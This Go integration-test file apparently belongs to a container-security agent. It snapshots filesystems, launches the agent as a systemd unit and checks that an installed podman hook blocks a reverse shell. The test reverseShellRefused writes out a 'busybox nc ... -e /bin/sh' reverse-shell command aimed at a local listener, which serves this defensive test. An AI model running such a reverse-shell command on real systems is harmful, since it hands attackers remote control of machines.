package pkg

import (
	"bufio"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/ocigate/ocigate/internal/testenv"
)

// snapshot returns, for each file, directory and link under roots, its
// type, mode and content hash (or link target).
func snapshot(t *testing.T, roots []string) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, root := range roots {
		err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if errors.Is(err, fs.ErrNotExist) {
				return nil
			}
			if err != nil {
				return err
			}
			out[p], err = describe(p, d)
			return err
		})
		if err != nil {
			t.Fatalf("snapshot %s: %v", root, err)
		}
	}
	return out
}

// describe says what p is: "dir MODE", "link TARGET" or "file MODE SHA256".
func describe(p string, d fs.DirEntry) (string, error) {
	fi, err := d.Info()
	if err != nil {
		return "", err
	}
	switch {
	case fi.IsDir():
		return fmt.Sprintf("dir %v", fi.Mode()), nil
	case fi.Mode()&fs.ModeSymlink != 0:
		target, err := os.Readlink(p)
		return "link " + target, err
	case !fi.Mode().IsRegular():
		return fmt.Sprintf("special %v", fi.Mode()), nil
	}
	f, err := os.Open(p)
	if err != nil {
		return "", err
	}
	defer f.Close()
	h := sha256.New()
	if _, err := io.Copy(h, f); err != nil {
		return "", err
	}
	return fmt.Sprintf("file %v %s", fi.Mode(), hex.EncodeToString(h.Sum(nil))), nil
}

// diffSnapshots lists what differs between two snapshots.
func diffSnapshots(before, after map[string]string) []string {
	var out []string
	for p, b := range before {
		if a, ok := after[p]; !ok {
			out = append(out, fmt.Sprintf("%s is gone (was %s)", p, b))
		} else if a != b {
			out = append(out, fmt.Sprintf("%s changed: %s, was %s", p, a, b))
		}
	}
	for p, a := range after {
		if _, ok := before[p]; !ok {
			out = append(out, fmt.Sprintf("%s is new (%s)", p, a))
		}
	}
	slices.Sort(out)
	return out
}

// unitAgent is the agent started as the unit's ExecStart.
type unitAgent struct {
	cmd    *exec.Cmd
	done   chan error
	notify *net.UnixConn
	log    string
}

// execStart returns the installed unit's ExecStart command line.
func execStart(t *testing.T) []string {
	t.Helper()
	b, err := os.ReadFile(unitPath)
	if err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(strings.NewReader(string(b)))
	for sc.Scan() {
		if v, ok := strings.CutPrefix(sc.Text(), "ExecStart="); ok {
			return strings.Fields(v)
		}
	}
	t.Fatalf("%s has no ExecStart", unitPath)
	return nil
}

// startAsUnit runs ExecStart with NOTIFY_SOCKET on a socket the test
// reads, as systemd would, and waits for READY=1.
func startAsUnit(t *testing.T) *unitAgent {
	t.Helper()
	dir := t.TempDir()
	addr := &net.UnixAddr{Name: filepath.Join(dir, "notify"), Net: "unixgram"}
	conn, err := net.ListenUnixgram("unixgram", addr)
	if err != nil {
		t.Fatal(err)
	}
	argv := execStart(t)
	a := &unitAgent{notify: conn, log: filepath.Join(dir, "agentd.log"), done: make(chan error, 1)}
	logf, err := os.Create(a.log)
	if err != nil {
		t.Fatal(err)
	}
	defer logf.Close()
	a.cmd = exec.Command(argv[0], argv[1:]...)
	a.cmd.Env = append(os.Environ(), "NOTIFY_SOCKET="+addr.Name)
	a.cmd.Stdout, a.cmd.Stderr = logf, logf
	if err := a.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() { a.done <- a.cmd.Wait() }()
	t.Cleanup(func() { a.stop(t); conn.Close() })
	if msg := a.waitNotify(t, "READY=1", 60*time.Second); !strings.Contains(msg, "MAINPID="+strconv.Itoa(a.cmd.Process.Pid)) &&
		!strings.Contains(msg, "READY=1") {
		t.Fatalf("notification %q", msg)
	}
	return a
}

// waitNotify reads notifications until one carries want.
func (a *unitAgent) waitNotify(t *testing.T, want string, within time.Duration) string {
	t.Helper()
	_ = a.notify.SetReadDeadline(time.Now().Add(within))
	buf := make([]byte, 4096)
	for {
		n, err := a.notify.Read(buf)
		if err != nil {
			t.Fatalf("no %s from the agent within %v: %v\nagent log:\n%s", want, within, err, tail(a.log))
		}
		msg := string(buf[:n])
		t.Logf("sd_notify: %q", msg)
		if strings.Contains(msg, want) {
			return msg
		}
	}
}

// stop sends SIGTERM and waits for the agent to exit (once).
func (a *unitAgent) stop(t *testing.T) {
	t.Helper()
	if a.cmd.ProcessState != nil || a.done == nil {
		return
	}
	_ = a.cmd.Process.Signal(syscall.SIGTERM)
	select {
	case err := <-a.done:
		if err != nil {
			t.Errorf("agent exited: %v\n%s", err, tail(a.log))
		}
	case <-time.After(30 * time.Second):
		_ = a.cmd.Process.Kill()
		<-a.done
		t.Errorf("agent did not stop at SIGTERM within 30s")
	}
	a.done = nil
}

// tail is the end of a log file.
func tail(path string) string {
	b, _ := os.ReadFile(path)
	if len(b) > 4000 {
		b = b[len(b)-4000:]
	}
	return string(b)
}

// reverseShellRefused runs busybox nc -e /bin/sh in a podman container
// whose hooks come from the installed hooks.d entry: the listener gets no
// shell, and the events file has the refusal.
func reverseShellRefused(t *testing.T) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	got := make(chan string, 1)
	go listener(ln, got)
	rootfs := filepath.Join(t.TempDir(), "rootfs")
	if err := testenv.BuildRootfs(rootfs, nil); err != nil {
		t.Fatal(err)
	}
	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
	p := testenv.PodmanRun{Rootfs: rootfs, Args: []string{"/bin/busybox", "nc", "127.0.0.1", port, "-e", "/bin/sh"}}
	res, err := testenv.RunPodman(context.Background(), p, 60*time.Second)
	t.Logf("podman: %+v", res)
	if err != nil {
		t.Fatalf("podman run: %v", err)
	}
	select {
	case s := <-got:
		if strings.Contains(s, "PWNED-42") {
			t.Fatalf("the attacker got a shell through the installed hook: %q", s)
		}
	case <-time.After(3 * time.Second):
	}
	waitEvent(t, res.ID)
}

// listener accepts one connection, types a command and sends what comes
// back on got.
func listener(ln net.Listener, got chan<- string) {
	c, err := ln.Accept()
	if err != nil {
		return
	}
	defer c.Close()
	_, _ = c.Write([]byte("echo PWNED-$((6*7)); exit\n"))
	_ = c.SetReadDeadline(time.Now().Add(3 * time.Second))
	b, _ := io.ReadAll(c)
	got <- string(b)
}

// waitEvent waits for an enforced event of the container in the events
// file the packaged config names.
func waitEvent(t *testing.T, id string) {
	t.Helper()
	deadline := time.Now().Add(15 * time.Second)
	for time.Now().Before(deadline) {
		b, _ := os.ReadFile(eventsLog)
		for _, line := range strings.Split(string(b), "\n") {
			if strings.Contains(line, id) && strings.Contains(line, `"enforced":true`) && strings.Contains(line, "reverse-shell") {
				return
			}
		}
		time.Sleep(200 * time.Millisecond)
	}
	b, _ := os.ReadFile(eventsLog)
	t.Fatalf("no enforced reverse-shell event of %s in %s:\n%s", id, eventsLog, b)
}
